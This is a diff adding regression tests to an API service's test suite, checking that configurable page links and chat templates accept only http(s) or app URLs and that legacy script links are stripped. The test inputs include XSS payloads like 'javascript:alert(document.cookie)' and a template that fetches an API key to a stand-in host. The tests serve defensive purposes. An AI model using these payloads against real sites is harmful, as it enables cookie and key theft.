@@ -3,6 +3,7 @@
 import { afterAll, beforeAll, describe, expect, test } from "bun:test";
 import { ApiSession, newUserSession, rootSession } from "../helpers/api-session.ts";
 import { startTestServer, type TestServer } from "../helpers/test-server.ts";
+import { createTestStore } from "../helpers/test-store.ts";
 
 let server: TestServer;
 let root: ApiSession;
@@ -86,4 +87,54 @@ describe("option rules", () => {
     expect((await page(plain, "/redemption")).status).toBe(403);
     expect((await page(plain, "/detail")).status).toBe(200);
   });
+});
+
+describe("links rendered into pages (issue 15 §6)", () => {
+  test("TopUpLink, Logo and the chat links take http(s) only, however the scheme is disguised", async () => {
+    for (const key of ["TopUpLink", "Logo", "ChatLink", "ChatLink2"]) {
+      for (const value of ["javascript:alert(document.cookie)", " JavaScript:alert(1)", "java\tscript:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)"]) {
+        expect({ key, value, body: (await root.put("/api/option/", { key, value })).body }).toEqual({
+          key,
+          value,
+          body: { success: false, message: `配置项 ${key} 只能是 http:// 或 https:// 链接` },
+        });
+      }
+      expect(await option(key)).toBe("");
+      expect((await root.put("/api/option/", { key, value: "https://shop.example.com/buy" })).body.success).toBe(true);
+      expect((await root.put("/api/option/", { key, value: "" })).body.success).toBe(true);
+    }
+    expect((await root.put("/api/option/", { key: "Logo", value: "/logo.svg" })).body.success).toBe(true);
+  });
+
+  test("Chats templates open a page or an app (the defaults' ama:// and opencat://), never script", async () => {
+    const bad = JSON.stringify([{ Web: "https://chat.example.com/?key={key}" }, { Evil: "javascript:fetch('//x.example/'+'{key}')" }]);
+    expect((await root.put("/api/option/", { key: "Chats", value: bad })).body).toEqual({ success: false, message: "聊天链接 Evil 只能是 http(s) 链接或应用链接" });
+    const good = JSON.stringify([{ Web: "https://chat.example.com/?key={key}&url={address}" }, { AMA: "ama://set-api-key?server={address}&key={key}" }]);
+    expect((await root.put("/api/option/", { key: "Chats", value: good })).body.success).toBe(true);
+  });
+
+  test("a script link stored by an older version never reaches a page", async () => {
+    const store = await createTestStore();
+    try {
+      const first = await startTestServer({ store });
+      await first.stop();
+      for (const key of ["TopUpLink", "Logo", "ChatLink"]) await store.query("update options set value = ? where key = ?", "javascript:alert(1)", key);
+      await store.query("update options set value = ? where key = 'Chats'", JSON.stringify([{ Evil: "javascript:alert('{key}')" }]));
+      const later = await startTestServer({ store });
+      try {
+        const status = (await (await fetch(`${later.url}/api/status`)).json()) as { data: Record<string, unknown> };
+        expect([status.data.logo, status.data.top_up_link, status.data.chat_link]).toEqual(["", "", ""]);
+        const session = await rootSession(later.url);
+        await session.post("/api/token/", { name: "t", remain_quota: 0, unlimited_quota: true, expired_time: -1 });
+        for (const path of ["/", "/topup", "/token", "/chat/0"]) {
+          const html = await (await fetch(`${later.url}${path}`, { headers: { cookie: session.cookie } })).text();
+          expect({ path, script: html.toLowerCase().includes("javascript:alert") }).toEqual({ path, script: false });
+        }
+      } finally {
+        await later.stop();
+      }
+    } finally {
+      await store.dispose();
+    }
+  }, 60_000);
 });
